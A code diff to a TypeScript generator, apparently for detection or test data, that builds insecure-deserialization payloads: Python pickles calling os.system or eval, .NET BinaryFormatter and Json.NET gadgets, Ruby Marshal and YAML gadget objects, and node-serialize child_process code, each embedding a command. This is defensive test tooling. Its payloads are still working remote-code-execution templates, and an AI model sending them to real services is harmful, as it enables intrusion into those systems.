@@ -165,6 +165,69 @@ function javaObjectStream(random: Random): Buffer {
   ]);
 }
 
+/** A Python pickle (protocol 4, one frame) that calls `module.function(argument)` when loaded. */
+function pickleStream(random: Random): Buffer {
+  const [module, fn] = pick([['posix', 'system'], ['os', 'system'], ['nt', 'system'], ['subprocess', 'check_output'], ['subprocess', 'getoutput'], ['os', 'popen'], ['builtins', 'eval'], ['builtins', 'exec']], random);
+  const arg = fn === 'eval' || fn === 'exec' ? `__import__('os').system('${javaCommand(random)}')` : unixCommand(random);
+  const short = (text: string): Buffer => {
+    const b = Buffer.from(text, 'utf8');
+    return b.length < 256 ? Buffer.concat([Buffer.from([0x8c, b.length]), b, Buffer.from([0x94])]) : Buffer.concat([Buffer.from([0x8d]), u32(b.length), Buffer.alloc(4), b, Buffer.from([0x94])]);
+  };
+  const body = Buffer.concat([short(module), short(fn), Buffer.from([0x93, 0x94]), short(arg), Buffer.from([0x85, 0x94, 0x52, 0x94, 0x2e])]);
+  const frame = Buffer.alloc(8);
+  frame.writeUInt32LE(body.length, 0);
+  return Buffer.concat([Buffer.from([0x80, 0x04, 0x95]), frame, body]);
+}
+
+function u32(n: number): Buffer {
+  const b = Buffer.alloc(4);
+  b.writeUInt32LE(n, 0);
+  return b;
+}
+
+/** A .NET BinaryFormatter length-prefixed string (7-bit encoded length). */
+function dotnetString(text: string): Buffer {
+  const b = Buffer.from(text, 'utf8');
+  const len: number[] = [];
+  let n = b.length;
+  do {
+    len.push((n & 0x7f) | (n > 0x7f ? 0x80 : 0));
+    n >>= 7;
+  } while (n > 0);
+  return Buffer.concat([Buffer.from(len), b]);
+}
+
+const DOTNET_GADGETS: readonly [string, string][] = [
+  ['System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089', 'System.Collections.Generic.SortedSet`1[[System.String, mscorlib]]'],
+  ['PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35', 'System.Windows.Data.ObjectDataProvider'],
+  ['System.Windows.Forms, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089', 'System.Windows.Forms.AxHost+State'],
+  ['Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35', 'Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties'],
+  ['System.Data, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089', 'System.Data.DataSet'],
+  ['mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089', 'System.Security.Claims.ClaimsIdentity'],
+  ['System.IdentityModel, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089', 'System.IdentityModel.Tokens.SessionSecurityToken'],
+];
+
+/** The first records of a .NET BinaryFormatter stream: header, the gadget's library, its class and members. */
+function dotnetBinaryFormatter(random: Random): Buffer {
+  const [library, type] = pick(DOTNET_GADGETS, random);
+  const members = pick([['Comparer', 'Count', 'Version', 'Items'], ['ObjectInstance', 'MethodName', 'MethodParameters'], ['PropertyBagBinary'], ['ForegroundBrush'], ['XmlSchema', 'XmlDiffGram'], ['m_serializedClaims', 'm_label'], ['SessionToken']], random);
+  return Buffer.concat([
+    Buffer.from([0x00]), u32(1), Buffer.from([0xff, 0xff, 0xff, 0xff]), u32(1), u32(0),
+    Buffer.from([0x0c]), u32(2), dotnetString(library),
+    Buffer.from([0x05]), u32(1), dotnetString(type), u32(members.length), ...members.map(dotnetString),
+    Buffer.from(members.map(() => pick([0x01, 0x02, 0x04, 0x00], random))),
+  ]);
+}
+
+/** A Ruby Marshal stream (4.8) of a gadget object: `Marshal.load` instantiates the class and its ivars. */
+function rubyMarshal(random: Random): Buffer {
+  const cls = Buffer.from(pick(['Gem::Installer', 'Gem::Requirement', 'Gem::SpecFetcher', 'Gem::Package::TarReader', 'ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy', 'ERB', 'Net::BufferedIO', 'Gem::StubSpecification'], random), 'latin1');
+  const ivar = Buffer.from(pick(['@i', '@io', '@requirements', '@src', '@loaded_from', '@method', '@instance'], random), 'latin1');
+  const value = Buffer.from(pick([`|${unixCommand(random)}`, `system('${javaCommand(random)}')`, `\`${javaCommand(random)}\``], random), 'latin1');
+  const fix = (n: number): number => n + 5;
+  return Buffer.concat([Buffer.from([0x04, 0x08, 0x6f, 0x3a, fix(cls.length)]), cls, Buffer.from([0x06, 0x3a, fix(ivar.length)]), ivar, Buffer.from([0x49, 0x22, fix(value.length)]), value, Buffer.from([0x06, 0x3a, 0x06, 0x45, 0x54])]);
+}
+
 /**
  * A serialized object compressed and base64'd, as `ysoserial … | gzip | base64` writes it and as
  * apps that keep compressed state in a parameter or cookie receive it: Java, a Python pickle calling
@@ -173,23 +236,29 @@ function javaObjectStream(random: Random): Buffer {
 function gzippedSerializedObject(random: Random): string {
   const payload = pick([
     () => javaObjectStream(random),
-    () => Buffer.concat([Buffer.from([0x80, 0x04, 0x95]), Buffer.from(`\u008c\u0005posix\u0094\u008c\u0006system\u0094\u0093\u0094\u008c${unixCommand(random)}\u0094\u0085\u0094R\u0094.`, 'latin1')]),
+    () => pickleStream(random),
     () => Buffer.from(`O:${int(random, 4, 30)}:"${pick(['Monolog\\Handler\\SyslogUdpHandler', 'GuzzleHttp\\Psr7\\FnStream', 'Illuminate\\Broadcasting\\PendingBroadcast'], random)}":1:{s:6:"events";O:${int(random, 4, 30)}:"${pick(['Illuminate\\Events\\Dispatcher', 'Faker\\Generator'], random)}":1:{s:12:"\u0000*\u0000listeners";a:1:{s:${int(random, 2, 9)}:"${javaCommand(random)}";a:1:{i:0;s:6:"system";}}}}`, 'latin1'),
   ], random)();
   return gzipSync(payload).toString('base64');
 }
 
+/**
+ * Serialized objects as a deserializing endpoint receives them. The binary formats are built, not
+ * quoted: each draw serializes its own gadget class, fields and command, so only the format's magic
+ * repeats between draws (as in real exploits), never a whole string.
+ */
 function serializedObject(random: Random): string {
-  const javaB64 = `rO0AB${pick(['XNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw', 'XNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlcg', 'XNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0', 'XNyAC5qYXZheC5tYW5hZ2VtZW50LkJhZEF0dHJpYnV0ZVZhbHVlRXhwRXhjZXB0aW9u'], random)}`;
   switch (int(random, 0, 9)) {
     case 0:
-      return javaB64;
-    case 1:
-      return `aced0005${pick(['7372', '737d', '7372001', '73720011'], random)}${hex('java.util.HashMap').slice(0, int(random, 8, 30))}`.toUpperCase();
+      return javaObjectStream(random).toString('base64');
+    case 1: {
+      const h = javaObjectStream(random).toString('hex');
+      return (random() < 0.5 ? h : h.toUpperCase()).slice(0, int(random, 24, h.length));
+    }
     case 2:
       return gzippedSerializedObject(random);
     case 3:
-      return `AAEAAAD/////AQAAAAAAAAAMAgAAA${pick(['F9TeXN0ZW0uV2luZG93cy5EYXRh', 'EtTeXN0ZW0sIFZlcnNpb249'], random)}`;
+      return dotnetBinaryFormatter(random).toString('base64');
     case 4:
       return JSON.stringify({ $type: `${pick(['System.Windows.Data.ObjectDataProvider', 'System.Configuration.Install.AssemblyInstaller', 'System.Activities.Presentation.WorkflowDesigner'], random)}, ${pick(['PresentationFramework', 'System.Configuration.Install'], random)}`, MethodName: 'Start', MethodParameters: { $type: 'System.Collections.ArrayList, mscorlib', $values: ['cmd', `/c ${javaCommand(random)}`] } });
     case 5:
@@ -200,15 +269,25 @@ function serializedObject(random: Random): string {
       ], random);
     case 6:
       return pick([
-        `gASV${pick(['JQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg', 'MgAAAAAAAACMAm9zlIwGc3lzdGVtlJOUjA'], random)}`,
-        `cos\nsystem\n(S'${unixCommand(random)}'\ntR.`,
-        `c__builtin__\neval\n(V__import__('os').system('${javaCommand(random)}')\ntR.`,
-        `!!python/object/apply:${pick(['os.system', 'subprocess.check_output', 'os.popen'], random)} ['${javaCommand(random)}']`,
-      ], random);
+        () => pickleStream(random).toString('base64'),
+        () => `c${pick(['os', 'posix', 'subprocess'], random)}\n${pick(['system', 'popen'], random)}\n(S'${unixCommand(random)}'\ntR.`,
+        () => `c${pick(['__builtin__', 'builtins'], random)}\n${pick(['eval', 'exec'], random)}\n(V__import__(${pick(["'os'", "'subprocess'"], random)}).${pick(['system', 'popen', 'getoutput'], random)}('${unixCommand(random)}')\ntR.`,
+        () => `!!python/object/${pick(['apply', 'new'], random)}:${pick(['os.system', 'subprocess.check_output', 'os.popen', 'subprocess.Popen'], random)} ['${javaCommand(random)}']`,
+      ], random)();
     case 7:
-      return pick([`BAh${pick(['vOhVHZW06Okluc3RhbGxlcgY6CkBpbyI', 'bwhvOlVHZW06OlJlcXVpcmVtZW50', 'WwdvOghHZW06OlNwZWNGZXRjaGVy'], random)}`, `--- !ruby/object:Gem::Installer\ni: x\n`, `!ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n? ! "foo; system('${javaCommand(random)}')"`], random);
-    case 8:
-      return JSON.stringify({ rce: `_$$ND_FUNC$$_function(){require('child_process').exec('${javaCommand(random)}',function(e,o){console.log(o)})}()` });
+      return pick([
+        () => rubyMarshal(random).toString('base64'),
+        () => `--- !ruby/object:${pick(['Gem::Installer', 'Gem::Requirement', 'Gem::SpecFetcher', 'Gem::Package::TarReader'], random)}\n${pick(['i', 'io', 'requirements', 'spec'], random)}: ${pick(['x', `"|${javaCommand(random)}"`, '!ruby/object:Gem::Package::TarReader'], random)}\n`,
+        () => `!ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n? ! "${pick(['foo', 'x', 'a'], random)}; system('${javaCommand(random)}')"`,
+      ], random)();
+    case 8: {
+      const fn = pick([
+        (c: string) => `function(){require('child_process').exec('${c}',function(e,o){console.log(o)})}()`,
+        (c: string) => `function(){require('child_process').execSync('${c}')}()`,
+        (c: string) => `function(){return process.mainModule.require('child_process').spawn('sh',['-c','${c}'])}()`,
+      ], random);
+      return JSON.stringify({ [pick(['rce', 'username', 'profile', 'data', 'user', 'session'], random)]: `_$$ND_FUNC$$_${fn(javaCommand(random))}` });
+    }
     default:
       return `${pick(['viewstate', '__VIEWSTATE', 'token', 'data'], random)}=${pick(['/wEy', '/wEPDw'], random)}${base64(`System.Diagnostics.Process ${javaCommand(random)}`)}`;
   }
